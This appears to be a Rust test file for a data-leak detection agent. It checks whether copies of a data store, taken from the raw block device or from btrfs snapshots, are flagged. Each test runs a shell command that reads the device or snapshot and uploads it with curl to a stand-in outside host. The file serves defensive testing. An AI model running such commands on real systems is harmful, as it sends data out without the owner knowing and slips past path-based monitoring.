//! Copies of a store past its path: from the block device under it, and from a snapshot.

use std::fs;
use std::process::Command;

use jaga_tests::disk::Disk;
use jaga_tests::leak::Leak;
use jaga_tests::net::OUT;
use jaga_tests::process::{Unit, run};
use jaga_tests::world::{MB, World};

/// A store of 150 MB on a disk of its own, of which `copy` sends what it will; `{device}` and `{disk}` stand for it.
fn copied(name: &str, make: &str, before: &str, copy: &str, below: bool) {
    let Some(world) = World::new(name) else {
        return;
    };
    let disk = Disk::new(world.folder(), make, 400 * MB);
    let fill = |text: &str| {
        text.replace("{device}", &disk.device)
            .replace("{disk}", &disk.mounted.display().to_string())
    };
    run(Command::new("sh").arg("-ec").arg(fill(before)));
    let store = disk.mounted.join("ekg");
    fs::create_dir_all(&store).unwrap();
    for file in fs::read_dir(world.store("source", 30, 5 * MB)).unwrap() {
        let file = file.unwrap();
        fs::copy(file.path(), store.join(file.file_name())).unwrap();
    }
    run(Command::new("sync").arg("-f").arg(&store));
    let mut agent = world.agent(&[("ekg", &store)], "");
    let received = world.net.out.received();
    let unit = Unit::new("jagat-below.service");
    unit.run(&fill(copy), 60);
    let session = unit.session();
    let leak = Leak {
        rule: "store-data-leaves",
        store: "ekg",
        session: &session,
        destination: OUT,
        scopes: &["external"],
    };
    leak.told(&mut agent, world.net.out.received() - received);
    let told = agent
        .alerts()
        .iter()
        .any(|alert| alert["rule"] == "store-copied-below" && alert["key"]["session"] == session);
    assert_eq!(told, below, "store-copied-below");
}

#[test]
fn the_block_device() {
    let copy = format!("cat {{device}} | curl -sfT - http://{OUT}/disk");
    copied("the_block_device", "mkfs.ext4", "", &copy, true);
}

#[test]
fn the_block_device_past_the_page_cache() {
    let copy =
        format!("dd if={{device}} bs=1M iflag=direct status=none | curl -sfT - http://{OUT}/disk");
    copied(
        "the_block_device_past_the_page_cache",
        "mkfs.ext4",
        "",
        &copy,
        true,
    );
}

/// A snapshot is the store under another name: what is read there is read of it, by path.
#[test]
fn a_snapshot() {
    let before = "btrfs -q subvolume create {disk}/ekg";
    let copy = format!(
        "btrfs -q subvolume snapshot -r {{disk}}/ekg {{disk}}/tuesday
         tar cf - -C {{disk}} tuesday | curl -sfT - http://{OUT}/tuesday"
    );
    copied("a_snapshot", "mkfs.btrfs", before, &copy, false);
}

/// The kernel itself reads and writes, by no path.
#[test]
fn a_snapshot_that_is_sent() {
    let before = "btrfs -q subvolume create {disk}/ekg";
    let copy = format!(
        "btrfs -q subvolume snapshot -r {{disk}}/ekg {{disk}}/tuesday
         btrfs -q send {{disk}}/tuesday | curl -sfT - http://{OUT}/tuesday"
    );
    copied("a_snapshot_that_is_sent", "mkfs.btrfs", before, &copy, true);
}
